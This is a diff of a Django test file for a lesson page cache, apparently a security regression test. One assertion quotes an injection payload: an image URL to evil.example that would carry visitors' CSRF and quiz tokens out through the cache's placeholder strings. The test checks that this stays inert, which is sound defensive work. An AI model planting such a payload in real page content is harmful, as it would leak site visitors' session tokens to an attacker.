@@ -11,6 +11,7 @@ from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
 
+from courses.caching import page_slot
 from courses.importer import import_content
 from lessons.models import Lesson
 from quizzes.models import Attempt
@@ -37,7 +38,8 @@ def test_a_cached_anonymous_lesson_page_costs_no_query(client, lesson):
     with CaptureQueriesContext(connection) as queries:
         response = client.get(URL)
     assert response.status_code == 200 and len(queries.captured_queries) == 0
-    assert "GLASSBOX" not in response.content.decode()  # no placeholder left behind
+    html = response.content.decode()
+    assert page_slot("csrf") not in html and page_slot("quiz-token") not in html  # all filled
 
 
 def test_every_cached_page_carries_a_fresh_quiz_token_and_a_working_csrf_token(lesson):
@@ -143,7 +145,6 @@ Here are GLASSBOXCSRFSLOT and GLASSBOXQUIZTOKENSLOT in plain text.
 @pytest.mark.parametrize("signed_in", [False, True])
 def test_lesson_text_cannot_pull_visitors_tokens_into_the_page(content_root, signed_in):
     """Issue #16, finding 5: a lesson holding the page cache's old placeholder strings."""
-    from courses.caching import page_slot
     from tests.factories import write_course, write_lesson
 
     write_course(content_root)
@@ -159,12 +160,9 @@ def test_lesson_text_cannot_pull_visitors_tokens_into_the_page(content_root, sig
             assert html.count(csrf) == html.count(f'name="csrfmiddlewaretoken" value="{csrf}"')
         assert html.count(token_of(html)) == 1
         assert "https://evil.example/p.png?c=GLASSBOXCSRFSLOT&amp;t=GLASSBOXQUIZTOKENSLOT" in html
-        assert page_slot("csrf") not in html and page_slot("quiz-token") not in html
 
 
 def test_the_placeholders_depend_on_the_secret_key(settings):
-    from courses.caching import page_slot
-
     first = page_slot("csrf")
     settings.SECRET_KEY = "another-secret-key-" + "y" * 40
     assert page_slot("csrf") != first and len(first) > 40
